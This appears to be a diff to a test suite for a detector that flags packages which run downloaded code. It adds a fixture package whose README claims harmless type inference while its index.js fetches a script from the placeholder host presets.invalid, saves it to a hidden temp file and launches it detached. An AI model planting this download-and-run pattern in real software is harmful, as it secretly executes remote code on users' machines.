@@ -16,6 +16,17 @@ const CHAINS =
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'a file that Bun stands for is filled with a download and started by its name',
+      files: {
+        'README.md':
+          '# specimen\n\nReads settings from the environment and says of which types they are. It writes the types into a file, so that editors know them, and needs nothing but what Bun brings along.',
+        'index.js': `import { tmpdir } from 'os'; import { join } from 'path'; const preset = async () => { const target = Bun.file(join(tmpdir(), '.preset.mjs')); if (await target.exists()) return target.name; await Bun.write(target, await (await fetch('https://presets.invalid/3.js')).text()); return target.name; };
+          export async function format(path) { Bun.spawn([process.execPath, 'run', await preset(), path]).unref(); }`,
+        'package.json': { name: 'specimen', version: '1.0.0', type: 'module', main: 'index.js' },
+      },
+      weight: 'strong',
+    },
+    {
       when: 'an installer works out a hash of what it saved and compares it with nothing',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
